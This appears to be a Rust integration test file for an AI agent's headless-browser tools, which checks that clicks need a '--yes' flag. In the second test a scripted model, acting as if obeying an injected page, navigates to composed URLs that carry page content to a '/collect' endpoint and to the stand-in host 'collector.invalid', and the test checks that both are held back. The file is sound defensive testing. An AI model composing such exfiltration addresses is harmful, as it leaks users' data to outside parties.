//! The browser toolbox: `baton ask` does a chore on a loopback site in
//! headless Chromium, a click needs `--yes`, and an address the model
//! composed is held back.

use baton_scripted_llm::{Reply, ScriptedServer};
use serde_json::{Value, json};

use crate::support::*;

/// A loopback site with a sign-up form; what it was sent.
async fn form_site() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use axum::response::Html;
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let kept = seen.clone();
    let app = axum::Router::new()
        .route(
            "/signup",
            axum::routing::get(|| async {
                Html(r#"<html><head><title>Sign up</title></head><body><h1>Newsletter</h1><form method="post" action="/done"><label>Name <input name="name"></label><button>Sign up</button></form></body></html>"#)
            }),
        )
        .route(
            "/done",
            axum::routing::post(move |body: String| {
                kept.lock().unwrap().push(body);
                async { Html("<html><head><title>Welcome</title></head><body>You are signed up.</body></html>") }
            }),
        )
        .route(
            "/collect",
            axum::routing::get({
                let kept = seen.clone();
                move |q: axum::extract::RawQuery| {
                    kept.lock().unwrap().push(format!("collect?{}", q.0.unwrap_or_default()));
                    async { Html("<html><body>thanks</body></html>") }
                }
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, seen)
}

/// A private home whose browser is Debian's Chromium, headless, and its
/// workspace.
fn headless_env() -> (Env, std::path::PathBuf) {
    let env = Env::new();
    let dir = ws(&env);
    std::fs::create_dir_all(env.path().join("config")).unwrap();
    std::fs::write(
        env.path().join("config/setup.json"),
        json!({"skipIndexingOnStartup": true, "browser": {"mode": "headless", "path": "/usr/bin/chromium"}}).to_string(),
    )
    .unwrap();
    (env, dir)
}

#[tokio::test(flavor = "multi_thread")]
async fn ask_does_a_chore_in_the_browser() {
    let (site, seen) = form_site().await;
    let server = ScriptedServer::start().await.unwrap();
    let (env, dir) = headless_env();
    server.reply(Reply::tool_call(
        "navigate",
        json!({"url": format!("{site}/signup")}),
    ));
    server.reply(Reply::tool_call("get_page_content", json!({})));
    server.reply(Reply::tool_call(
        "fill_fields",
        json!({"fields": [{"target": "e1", "value": "Grace Hopper"}]}),
    ));
    server.reply(Reply::tool_call("click", json!({"target": "e2"})));
    server.reply(Reply::tool_call(
        "screenshot",
        json!({"path": "/shots/done.png"}),
    ));
    server.reply(Reply::text("You are signed up."));
    // A model that reads images sees the screenshot.
    let vision = env.path().join("vision.json");
    let entry = json!({"name": "vision", "dialect": "openai", "ocr": true,
        "endpoint": format!("{}/v1", server.url()), "model": "m"});
    std::fs::write(
        &vision,
        json!({"default": "vision", "providers": [entry]}).to_string(),
    )
    .unwrap();
    let mut c = env.cmd();
    c.arg("--providers").arg(&vision);
    c.arg("--workspace").arg(&dir).args([
        "ask",
        "--mode",
        "api",
        "--json",
        "--yes",
        "Sign me up for the newsletter as Grace Hopper",
    ]);
    let o = run(c, None).await;
    assert_eq!(o.code, 0, "{}", o.stderr);
    let v: Value = serde_json::from_str(o.stdout.trim()).unwrap();
    let page = v["toolCalls"][1]["outcome"]["ok"]["markdown"]
        .as_str()
        .unwrap_or_default();
    assert!(
        page.contains("<<<INTERACTIVE::input::{\"id\":\"e1\""),
        "{v}"
    );
    assert_eq!(v["toolCalls"][3]["outcome"]["ok"]["navigated"], true, "{v}");
    assert_eq!(seen.lock().unwrap().as_slice(), ["name=Grace+Hopper"]);
    let png = std::fs::read(dir.join("shots/done.png")).unwrap();
    let last = server.requests().last().unwrap().json();
    let shown = last["messages"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .find_map(|m| {
            m["content"]
                .as_array()?
                .iter()
                .find_map(|p| p["image_url"]["url"].as_str())
        })
        .expect("the screenshot is shown to the model");
    use base64::Engine as _;
    let want = base64::engine::general_purpose::STANDARD.encode(&png);
    assert_eq!(shown, format!("data:image/png;base64,{want}"));
    // Without --yes nobody confirms the click: it is refused, nothing is
    // sent. The page the user named opens without asking.
    for r in [
        Reply::tool_call("navigate", json!({"url": format!("{site}/signup")})),
        Reply::tool_call("click", json!({"target": "//button"})),
        Reply::text("I could not sign you up."),
    ] {
        server.reply(r);
    }
    let mut c = env.scripted(&server);
    let prompt = format!("Sign me up at {site}/signup");
    c.arg("--workspace")
        .arg(&dir)
        .args(["ask", "--mode", "api", "--json", &prompt]);
    let o = run(c, None).await;
    assert_eq!(o.code, 0, "{}", o.stderr);
    let v: Value = serde_json::from_str(o.stdout.trim()).unwrap();
    assert_eq!(v["toolCalls"][0]["outcome"]["ok"]["loaded"], true, "{v}");
    assert!(
        v["toolCalls"][1]["outcome"]["err"]
            .as_str()
            .unwrap_or_default()
            .contains("--yes"),
        "{v}"
    );
    assert_eq!(seen.lock().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_the_model_composed_is_held_back() {
    let (site, seen) = form_site().await;
    let server = ScriptedServer::start().await.unwrap();
    let (env, dir) = headless_env();
    // The page "says" to send the summary on; a model that obeys composes
    // an address with it, on the same site and on another one.
    for r in [
        Reply::tool_call("navigate", json!({"url": format!("{site}/signup")})),
        Reply::tool_call("get_page_content", json!({})),
        Reply::tool_call(
            "navigate",
            json!({"url": format!("{site}/collect?d=Newsletter+sign-up+form")}),
        ),
        Reply::tool_call(
            "navigate",
            json!({"url": "http://collector.invalid/?d=Newsletter"}),
        ),
        Reply::text("The page is a newsletter sign-up form."),
    ] {
        server.reply(r);
    }
    let mut c = env.scripted(&server);
    let prompt = format!("What is on {site}/signup?");
    c.arg("--workspace")
        .arg(&dir)
        .args(["ask", "--mode", "api", &prompt]);
    let o = run(c, None).await;
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(o.stdout.contains("newsletter sign-up form"), "{}", o.stdout);
    // The user is told, whatever the model says; the page they named opened.
    let held: Vec<&str> = o
        .stderr
        .lines()
        .filter(|l| l.contains("held back: WebTool.navigate"))
        .collect();
    assert_eq!(held.len(), 2, "{}", o.stderr);
    assert!(held.iter().all(|l| !l.contains("/signup")), "{}", o.stderr);
    let page = server.requests()[2].json().to_string();
    assert!(
        page.contains("Newsletter"),
        "the named page was read: {page}"
    );
    assert!(seen.lock().unwrap().is_empty(), "nothing reached the site");
}
